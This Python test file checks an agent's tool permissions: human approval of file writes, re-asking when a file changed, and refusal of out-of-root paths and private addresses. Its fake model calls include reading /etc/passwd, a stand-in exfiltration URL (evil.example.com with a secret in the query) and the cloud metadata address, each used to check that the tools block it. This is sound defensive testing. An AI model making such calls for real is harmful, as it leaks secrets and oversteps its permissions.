"""Files and the web in whole turns: what the model asks for, what the person decides, what becomes of it."""

from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any

import pytest

from phonework.testing.fake_metaso import KEY, FakeMetaso
from phonework.testing.fake_openai import call, say


def results(scene: Any) -> list[str]:
    """What the tools told the model so far in the newest request."""
    return [one["content"] for one in scene.api.requests[-1].messages if one["role"] == "tool"]


@pytest.fixture
async def metaso() -> AsyncIterator[FakeMetaso]:
    async with FakeMetaso() as api:
        yield api


@pytest.fixture
async def notes(scene: Any) -> Any:
    """A file in the directory of the active session."""
    await scene.quiet_session()
    path = scene.play.work / "api" / "notes.txt"
    path.write_text("one\n")
    return path


def write(content: str, path: str = "notes.txt") -> Any:
    return call("write_file", {"path": path, "content": content})


async def test_a_file_is_written_after_the_person_saw_the_change(scene: Any, notes: Any) -> None:
    scene.api.will([write("two\n")], say("Written."))
    await scene.play.say("what about putting two into notes.txt?")
    request_id, prompt = await scene.request()
    card = scene.play.one("SELECT json_extract(body, '$.ask.diff') FROM request WHERE request_id = ?", request_id)
    assert prompt == "Replace what is in api/notes.txt?"
    assert card == "--- a/api/notes.txt\n+++ b/api/notes.txt\n@@ -1 +1 @@\n-one\n+two\n"
    assert notes.read_text() == "one\n"

    await scene.tap(request_id, "answer", "allow")
    assert (await scene.ended())["text"] == "Written."
    assert notes.read_text() == "two\n"
    assert scene.calls() == [("write_file", "done")]


async def test_a_no_and_a_stop_write_nothing(scene: Any, notes: Any) -> None:
    scene.api.will([write("two\n")], say("As you wish."))
    await scene.play.say("what about putting two into notes.txt?")
    request_id, _prompt = await scene.request()
    await scene.tap(request_id, "answer", "deny")
    await scene.ended()
    assert "refused" in results(scene)[0]

    scene.api.will([write("three\n")])
    await scene.play.say("what about putting three into notes.txt?")
    await scene.request(2)
    await scene.play.say("/stop")
    await scene.ended(2)
    assert notes.read_text() == "one\n"
    assert scene.calls() == []


async def test_a_file_that_changed_while_the_person_thought_is_not_written_over(scene: Any, notes: Any) -> None:
    scene.api.will([write("two\n")], say("It changed."))
    await scene.play.say("what about putting two into notes.txt?")
    request_id, _prompt = await scene.request()
    notes.write_text("the agent was here\n")
    await scene.tap(request_id, "answer", "allow")
    await scene.ended()

    assert notes.read_text() == "the agent was here\n"
    assert "not as it was when you were asked" in results(scene)[0]


async def test_a_late_yes_writes_what_was_shown(stage: Any) -> None:
    async with stage(timeouts={"wait": 60}) as scene:
        path, request_id = await asked_too_long(scene)
        scene.api.will(say("There."))
        await scene.tap(request_id, "late", "allow")
        await scene.ended(2)

        assert path.read_text() == "two\n"


async def test_a_late_yes_is_none_to_another_change(stage: Any) -> None:
    """The file is not as it was: what would be written now was never shown, so it is asked anew."""
    async with stage(timeouts={"wait": 60}) as scene:
        path, request_id = await asked_too_long(scene)
        path.write_text("the agent was here\n")
        scene.api.will(say("There."))
        await scene.tap(request_id, "late", "allow")
        again, _prompt = await scene.request(2)
        assert again != request_id
        await scene.tap(again, "answer", "deny")
        await scene.ended(2)

        assert path.read_text() == "the agent was here\n"


async def asked_too_long(scene: Any) -> tuple[Any, str]:
    """The file, and the question about writing it that nobody answered in time."""
    await scene.quiet_session()
    path = scene.play.work / "api" / "notes.txt"
    path.write_text("one\n")
    scene.api.will([write("two\n")])
    await scene.play.say("what about putting two into notes.txt?")
    request_id, _prompt = await scene.request()
    await scene.play.advance(timedelta(seconds=61))
    await scene.ended()
    return path, request_id


async def test_a_question_survives_a_crash_and_its_yes_is_for_the_same_change(scene: Any, notes: Any) -> None:
    scene.api.will([write("two\n")])
    await scene.play.say("what about putting two into notes.txt?")
    request_id, _prompt = await scene.request()
    await scene.play.crash()
    scene.api.will(say("Written."))
    opened = scene.play.rows("SELECT request_id, status FROM request ORDER BY place")
    op = "answer" if opened[-1][1] == "open" else "late"
    await scene.tap(opened[-1][0] if op == "answer" else request_id, op, "allow")
    await scene.play.until(lambda: notes.read_text() == "two\n")
    assert scene.play.one("SELECT count(*) FROM tool_call WHERE name = 'write_file'") == 1


async def test_files_are_read_and_sent_without_asking_and_nothing_outside(scene: Any, notes: Any) -> None:
    await scene.ask(
        "what is in notes.txt, and send it please?",
        [call("read_file", {"path": "notes.txt"}), call("send_file", {"path": "notes.txt"})],
        [call("read_file", {"path": "/etc/passwd"}), call("search_files", {"pattern": "("})],
        say("There."),
    )
    read, sent, outside, pattern = results(scene)
    assert read.endswith("     1\tone")
    assert "goes to the chat" in sent
    assert "outside the working root" in outside
    assert "cannot be searched for" in pattern
    posts = scene.play.channel.posts.values()
    await scene.play.until(lambda: any(one.shows.file_name == "notes.txt" for one in posts))


async def test_the_web_is_searched_and_an_address_nobody_gave_is_asked_about(stage: Any, metaso: FakeMetaso) -> None:
    async with stage(web={"metaso_key": KEY, "metaso_url": metaso.url}) as scene:
        scene.api.will(
            [call("search_web", {"query": "bees"})],
            [call("read_page", {"url": "https://evil.example.com/?secret=42"})],
            [call("read_page", {"url": "http://169.254.169.254/"})],
            say("There."),
        )
        await scene.play.say("what is known of bees?")
        request_id, prompt = await scene.request()
        command = scene.play.one("SELECT json_extract(body, '$.ask.command') FROM request")
        assert "Open this address?" in prompt
        assert command == "https://evil.example.com/?secret=42"
        await scene.tap(request_id, "answer", "deny")
        await scene.ended()

        found, refused, private = results(scene)
        assert "untrusted" in found
        assert "https://example.org/webpage/1" in found
        assert "refused" in refused
        assert "private network" in private
